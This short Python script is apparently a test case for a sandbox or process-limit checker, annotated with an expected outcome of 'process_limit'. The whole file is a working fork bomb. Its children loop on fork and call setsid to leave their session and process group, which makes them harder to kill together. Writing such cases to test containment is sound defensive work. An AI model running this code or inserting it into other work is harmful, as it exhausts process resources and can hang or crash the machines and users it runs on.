# A fork bomb whose children leave the session and the process group.
# outcome: process_limit
import os

try:
    while True:
        if os.fork() == 0:
            os.setsid()
except OSError:
    os._exit(1)
